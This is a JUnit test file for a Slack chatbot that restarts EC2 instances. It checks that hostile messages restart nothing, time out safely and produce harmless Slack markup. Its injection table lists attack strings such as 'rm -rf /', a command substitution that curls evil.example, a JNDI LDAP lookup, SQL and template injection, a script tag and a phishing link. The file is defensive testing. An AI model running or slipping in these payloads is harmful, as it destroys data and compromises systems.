package chatbot.slack;

import static org.assertj.core.api.Assertions.assertThat;

import chatbot.aws.Caller;
import chatbot.chat.Answer;
import chatbot.fleet.Action;
import chatbot.fleet.BareFleet;
import chatbot.fleet.Instance;
import chatbot.fleet.Instance.Address;
import chatbot.fleet.Instance.Place;
import chatbot.fleet.Instance.Role;
import chatbot.fleet.InstanceState;
import chatbot.fleet.IpAddress;
import chatbot.fleet.Target;
import chatbot.webapi.BlockKit;
import chatbot.webapi.SlackMessage;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Whatever is thrown at the bot, it restarts nothing, answers soon, and can't be made to say
/// anything that works as markup. The tables hold what Slack sends; pictures stand for control
/// characters.
final class HostileLinesTest {

    /// A fleet of one machine, whose name is as hostile as what is asked.
    private record HostileFleet(String name) implements BareFleet {

        @Override
        public Lookups find(List<Target> targets, Optional<String> region, Caller caller) {
            return new Lookups.Found(targets.stream().collect(Collectors.toMap(target -> target,
                    target -> List.of(machine(target)))));
        }

        private Instance machine(Target target) {
            List<Address> addresses = target instanceof Target.Address(IpAddress ip)
                    ? List.of(new Address(ip, Role.PRIMARY))
                    : List.of();
            return new Instance("i-1", InstanceState.RUNNING, "t3.small",
                    new Place("us-east-1a", "vpc-1", "123456789012"), addresses,
                    Map.of("Name", name, "chatbot", "restart"), Instant.EPOCH);
        }

        @Override
        public Attempt change(Action action, List<Instance> instances, Caller caller) {
            return new Attempt.Accepted();
        }
    }

    @ParameterizedTest
    @MethodSource({"injections", "floods"})
    @Timeout(5)
    void restartsNothing(Lines.Row hostile) {
        UntouchableFleet.isNotAskedBy(hostile.text());
    }

    @ParameterizedTest
    @MethodSource({"injections", "floods"})
    @Timeout(5)
    void isHarmlessAsAReasonOrAName(Lines.Row hostile) {
        Answer answer = Lines.answer("restart 10.34.33.22 because " + hostile.text(),
                new HostileFleet(hostile.text()));

        assertThat(answer.outcome()).isEqualTo("accepted");
        BlockKit.check(SlackMessage.of(answer.reply()));
    }

    private static List<Lines.Row> injections() {
        return Lines.rows("""
                everybody:          restart <!channel>
                everybody, typed:   &lt;!channel&gt;
                everybody here:     <!here|here> restart 10.34.33.22
                somebody:           restart 10.34.33.22 <@U0123|root>
                group:              <!subteam^S0|@admins>
                phishing:           restart <http://evil.example|10.34.33.22>
                escaped twice:      restart &amp;lt;!channel&amp;gt;
                out of code:        restart `<!channel>`x`
                out of code, again: restart x`*bold*`y
                quote:              &gt;&gt;&gt; restart
                shell:              restart 10.34.33.22; rm -rf /
                shell, quoted:      restart $(curl${IFS}evil.example)
                SQL:                restart 10.34.33.22' OR '1'='1
                EC2 filter:         restart Name=tag:chatbot,Values=*
                JNDI:               restart ${jndi:ldap://10.34.33.22/a}
                expression:         restart ${10}.34.33.22
                format string:      restart %s%s%n%x
                template:           restart {} {0} {{7*7}}
                regular expression: restart ^(10|.*)+$\\E
                HTML:               restart &lt;script&gt;alert(1)&lt;/script&gt;
                JSON:               restart "}],"response_type":"in_channel
                log line:           restart x␊{"outcome":"accepted"}
                terminal:           restart ␛[2J10.34.33.22
                turned text:        restart \u202e\u2066\u2067\u200f\u061cabc
                line separators:    restart 10.34.33.2␤2¶x
                broken character:   restart 10.34.33.22\ufffd
                private use:        restart \ue000\uffff
                """);
    }

    private static String distinct(int words) {
        return IntStream.range(0, words).mapToObj(number -> "x" + number)
                .collect(Collectors.joining(" "));
    }

    private static List<Lines.Row> floods() {
        return List.of(new Lines.Row("one word", "x".repeat(60_000)),
                new Lines.Row("words", "x ".repeat(20_000)),
                new Lines.Row("words after restart", "restart " + distinct(6_000)),
                new Lines.Row("words too many", "restart 10.1.2.3 " + distinct(6_000)),
                new Lines.Row("ampersands", "restart " + "&amp;".repeat(7_000)),
                new Lines.Row("ampersands in parts", "restart 1.1." + "&".repeat(190) + ".1"),
                new Lines.Row("parts", "restart " + "1.".repeat(29_000)),
                new Lines.Row("digits", "restart 10.34.33." + "2".repeat(60_000)),
                new Lines.Row("colons", "restart " + ":".repeat(20_000)),
                new Lines.Row("punctuation", "restart " + "!".repeat(60_000) + "x"),
                new Lines.Row("dots", "restart x" + ".".repeat(60_000) + "x"),
                new Lines.Row("code marks", "`".repeat(20_000) + "x" + "`".repeat(20_000)),
                new Lines.Row("brackets", "(".repeat(20_000) + "x" + ")".repeat(20_000)),
                new Lines.Row("open links", "<".repeat(20_000)),
                new Lines.Row("labels", "<" + "|".repeat(20_000)),
                new Lines.Row("faces", "restart " + "\ud83d\ude00".repeat(5_000)),
                new Lines.Row("marks", "restart x" + "\u0301".repeat(9_000)));
    }
}
